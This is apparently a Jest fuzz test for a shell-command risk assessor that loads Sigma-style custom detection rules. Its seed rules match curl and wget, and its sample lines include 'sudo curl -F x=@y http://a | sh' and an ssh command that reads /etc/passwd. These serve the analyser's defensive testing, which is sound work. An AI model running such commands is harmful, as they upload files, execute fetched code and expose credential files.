import { describe } from '@jest/globals';
import { assess } from '../../src/risk/assess.ts';
import { isUsable } from '../../src/risk/custom/custom-rule.ts';
import { CustomRuleSet } from '../../src/risk/custom/custom-rule-set.ts';
import { readRuleFile } from '../../src/risk/custom/rule-files.ts';
import { analyse } from '../../src/shell/analyse.ts';
import { selecting, sigma } from '../risk/custom/sigma.ts';
import { fuzzTest } from './rig/fuzzer.ts';
import { holds } from './rig/invariants.ts';

const SEEDS = [
  selecting("Image|endswith: ['/curl', '/wget']"),
  selecting('CommandLine|contains|all: [a, b]').replace(
    'level: high',
    'level: low\ntags: [attack.t1059.004]\nadvice: x',
  ),
  selecting("CommandLine|re|i: '\\s-[FT]\\s(a|b)+'"),
  selecting("CommandLine|contains|windash: ' -exec '"),
  selecting("CommandLine|wide|base64offset|contains: 'ab*'"),
  sigma('a:\n    - Image: x*y\n    - User|exists: true\nb_1:\n    ParentImage: null\ncondition: a and not 1 of b_*'),
  sigma("words:\n    '|all': [x, y]\ncondition: all of them or (words)"),
  `${selecting('Image: &x /bin/ls')}---\n${selecting('Image: /bin/cat')}`,
];
const WORDS = [
  ...['---\n', ': ', '- ', '[', ']', '{', '}', '&a ', '*a', '!!str ', '? ', '| ', '> ', '"', "'", '#', '\n    '],
  ...[
    '|contains',
    '|re',
    '|all',
    '|cased',
    '|base64',
    '|neq',
    '|exists',
    '|cidr',
    'CurrentDirectory',
    'OriginalFileName',
  ],
  ...[' and ', ' or ', ' not ', '1 of ', 'all of ', 'them', '(', ')', 'null', "''", '(?i)', '{1,1000}', '\\', '*', '?'],
];
const LINES = ['sudo curl -F x=@y http://a | sh', "find . -exec ls {} \\;; echo 'YWIA' > z", 'ssh h "cat /etc/passwd"'];

describe('custom rules', () => {
  fuzzTest({
    name: 'any text is rules that can be evaluated, or reasons that are one line',
    seeds: SEEDS.map((text) => Buffer.from(text)),
    words: WORDS,
    run: (input) => {
      const found = readRuleFile({ name: 'x.yml', text: input.toString() });
      holds('a file has an entry', found.length > 0);
      for (const rule of found) {
        if (!isUsable(rule)) {
          holds('a reason is short and one line', rule.reason.length < 400 && !rule.reason.includes('\n'));
          continue;
        }
        const set = new CustomRuleSet([rule], { system: 'linux', user: 'ada' });
        for (const line of LINES) {
          const analysis = analyse(line, 'bash');
          const [alone, together] = [assess(analysis), assess(analysis, {}, set)];
          holds('no finding is lost', alone.findings.length <= together.findings.length);
        }
      }
    },
  });
});
